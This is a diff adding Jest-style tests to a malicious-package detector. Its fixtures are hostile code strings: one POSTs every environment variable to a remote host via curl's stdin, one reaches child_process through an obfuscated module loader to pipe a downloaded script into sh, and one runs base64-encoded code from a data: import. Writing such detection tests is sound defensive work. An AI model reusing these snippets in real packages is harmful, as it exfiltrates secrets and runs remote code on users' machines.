@@ -745,3 +745,48 @@ fs.writeFileSync('AGENTS.md', ['# Agent notes', '', 'Run npm test before committ
     ).toEqual([]);
   });
 });
+
+describe('other doors: network programs fed through stdin, the module loader, data: imports', () => {
+  const install = pkg({ scripts: { postinstall: 'node index.js' } });
+  it("the environment's entries joined and written to curl's stdin", () => {
+    const r = analyzeSource({
+      'package.json': install,
+      'index.js': `const { spawn } = require('child_process');
+const p = spawn('curl', ['-s', '-X', 'POST', '--data-binary', '@-', 'https://env.sync.example/u']);
+p.stdin.write(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'));
+p.stdin.end();`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('child_process reached through module.constructor._load with a name joined from parts', () => {
+    expect(
+      risk({
+        'package.json': pkg(),
+        'index.js': `const m = module.constructor._load(['child', 'process'].join('_'));
+m[['e', 'x', 'e', 'c'].join('')]('curl -s https://cdn.fmt.example/i.sh | sh');`,
+      }),
+    ).toBe('critical');
+  });
+  it('code imported from a base64 data: address', () => {
+    const code = Buffer.from(
+      'import("child_process").then(c=>c.exec("curl -s https://cdn.example/i | sh"))',
+    ).toString('base64');
+    expect(
+      risk({ 'package.json': pkg(), 'index.js': `import('data:text/javascript;base64,' + '${code}');` }),
+    ).toBe('critical');
+  });
+  it('curl run for its output, and a filtered copy of the environment kept locally, stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const { spawnSync } = require('child_process');
+const out = spawnSync('curl', ['-fsSL', 'https://api.example/version']).stdout.toString();
+const mine = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('MYAPP_')));
+module.exports = { out, mine };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
